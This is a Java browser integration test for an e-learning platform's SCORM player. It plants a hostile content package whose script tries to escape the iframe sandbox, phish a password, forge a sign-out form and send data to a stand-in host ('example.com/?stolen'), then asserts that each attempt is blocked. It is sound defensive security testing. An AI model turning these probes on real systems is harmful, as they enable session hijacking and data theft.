package org.bellwether.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;

import org.bellwether.support.InBrowser;
import org.junit.jupiter.api.Test;

import com.microsoft.playwright.options.WaitForSelectorState;
import com.microsoft.playwright.Locator;

/** A package that tries everything which content must not be able to do. */
class HostilePackageBrowserIT extends InBrowser {

    private static final String PROBES = """
        <!doctype html><meta charset="utf-8"><title>Probes</title><pre id="out"></pre><script>
        var results = {}; var application = 'APPLICATION';
        function note(name, value) { results[name] = value; }
        function attempt(name, work) { try { note(name, work()); } catch (refused) { note(name, 'blocked'); } }
        attempt('1 read the player', function () { return window.top.document.title; });
        attempt('2 read the player by name', function () { return window.parent.parent.document.body.innerHTML; });
        attempt('3 remove its own sandbox', function () { window.parent.frameElement.removeAttribute('sandbox'); return 'removed'; });
        attempt('4 find the API', function () { return typeof window.parent.API.LMSInitialize; });
        attempt('5 read cookies', function () { document.cookie = 'planted=1'; return document.cookie === '' || document.cookie === 'planted=1' ? 'own only' : 'foreign'; });
        attempt('6 navigate the top window', function () { window.top.location.href = 'https://example.com/'; return 'navigated'; });
        attempt('7 open a window', function () { var w = window.open('about:blank'); return w ? 'opened' : 'blocked'; });
        attempt('8 ask for a password', function () { var said = window.prompt('Password?'); return said === null ? 'blocked' : 'asked'; });
        attempt('9 its own storage', function () { try { localStorage.setItem('a', 'b'); return 'own'; } catch (no) { return 'none'; } });
        attempt('10 forge a hello', function () { window.parent.parent.postMessage({ type: 'hello' }, '*'); return 'sent'; });
        function later(name, promise) { return promise.then(function (value) { note(name, value); }, function () { note(name, 'blocked'); }); }
        function image(address) { return new Promise(function (done, failed) { var i = new Image(); i.onload = function () { done('loaded'); }; i.onerror = failed; i.src = address; }); }
        function script(address) { return new Promise(function (done, failed) { var s = document.createElement('script'); s.onload = function () { done('ran'); }; s.onerror = failed; s.src = address; document.head.append(s); }); }
        Promise.all([
          later('11 call the application', fetch(application + '/api/v1/ping', { credentials: 'include' }).then(function (r) { return 'read ' + r.status; })),
          later('12 post to the application', fetch(application + '/api/v1/launches', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(function () { return 'sent'; })),
          later('13 load a picture of the application', image(application + '/resources/bellwether/img/bell.svg')),
          later('14 run a script of the application', script(application + '/resources/bellwether/js/shell.js')),
          later('15 send data away', fetch('http://example.com/?stolen').then(function () { return 'sent'; })),
          later('16 register a service worker', navigator.serviceWorker.register('worker.js').then(function () { return 'registered'; })),
          later('17 read its own file', fetch('data.xml').then(function (r) { return r.text(); }).then(function (t) { return t.indexOf('<own/>') >= 0 ? 'read' : 'other'; })),
          later('18 read another package', fetch('/c/AAAA/index.html').then(function (r) { return 'answer ' + r.status; })),
          later('19 use a form', new Promise(function (done) { var f = document.createElement('form'); f.method = 'post'; f.action = application + '/sign-out'; f.target = 'x';
            document.addEventListener('securitypolicyviolation', function (e) { if (e.violatedDirective.indexOf('form-action') === 0) done('blocked'); }); document.body.append(f); f.submit(); setTimeout(function () { done('submitted'); }, 1500); }))
        ]).then(function () { document.getElementById('out').textContent = JSON.stringify(results); document.getElementById('out').dataset.done = 'yes'; });
        </script>
        """;

    @Test
    void it_reaches_its_own_files_and_the_api_and_nothing_else() {
        var title = "Probes " + System.nanoTime();
        var trainer = signInAs("trainer");
        var page = PROBES.replace("APPLICATION", application().url());
        PlayerBrowserIT.upload(trainer, Zips.scorm12(title, null, page).with("data.xml", "<own/>").with("worker.js", "self.a = 1;").bytes());
        PlayerBrowserIT.publish(trainer);
        var learner = as("employee");
        var player = PlayerBrowserIT.lessonOf(learner, title);
        learner.navigate(player);
        var out = PlayerBrowserIT.content(learner).locator("#out[data-done]");
        out.waitFor(new Locator.WaitForOptions().setState(WaitForSelectorState.ATTACHED));
        @SuppressWarnings("unchecked")
        var results = (Map<String, Object>) out.evaluate("out => JSON.parse(out.textContent)");

        assertThat(results).containsEntry("4 find the API", "function").containsEntry("17 read its own file", "read").containsEntry("5 read cookies", "own only")
            .containsEntry("18 read another package", "answer 404");
        assertThat(results).hasSize(19);
        for (var probe : new String[] {"1 read the player", "2 read the player by name", "3 remove its own sandbox", "6 navigate the top window", "7 open a window", "8 ask for a password",
            "11 call the application", "12 post to the application", "13 load a picture of the application", "14 run a script of the application", "15 send data away",
            "16 register a service worker", "19 use a form"}) {
            assertThat(results.get(probe)).as(probe).isEqualTo("blocked");
        }
        assertThat(learner.url()).as("the player is still there").contains("/content/player.xhtml");
        assertThat(learner.context().cookies().stream().filter(cookie -> cookie.domain.equals("127.0.0.1")).map(cookie -> cookie.name)).isSubsetOf("planted");
        assertThat(learner.evaluate("fetch('/api/v1/ping').then(answer => answer.status)")).as("still signed in").isEqualTo(200);
        complaints().clear();
    }

    @Test
    void its_files_answer_only_on_their_own_host_with_their_own_policy_and_in_parts() throws Exception {
        var trainer = signInAs("trainer");
        PlayerBrowserIT.upload(trainer, Zips.scorm12("Ranges", null, "<!doctype html><title>x</title>0123456789").bytes());
        var id = trainer.url().replaceAll(".*package=", "");
        var files = (String) trainer.evaluate("id => fetch('/api/v1/packages/preview?package=' + id, { method: 'POST', headers: { 'X-Bellwether': '1' } }).then(r => r.json()).then(s => s.files)", id);
        var client = java.net.http.HttpClient.newHttpClient();
        var whole = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(files + "index.html")).build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(whole.statusCode()).isEqualTo(200);
        assertThat(whole.headers().firstValue("Content-Type")).hasValue("text/html");
        assertThat(whole.headers().firstValue("Set-Cookie")).isEmpty();
        assertThat(whole.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(policy -> assertThat(policy).contains("frame-ancestors 'self' " + application().url(), "object-src 'none'", "worker-src 'none'"));
        var part = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(files + "index.html")).header("Range", "bytes=-4").build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(part.statusCode()).isEqualTo(206);
        assertThat(part.body()).isEqualTo("6789");
        var elsewhere = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(files.replace(application().contentUrl(), application().url()) + "index.html")).build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(elsewhere.statusCode()).as("the application asks a stranger to sign in").isIn(302, 404);
        var forged = client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(files.replaceAll("/c/.", "/c/_") + "index.html")).build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(forged.statusCode()).isEqualTo(404);
    }
}
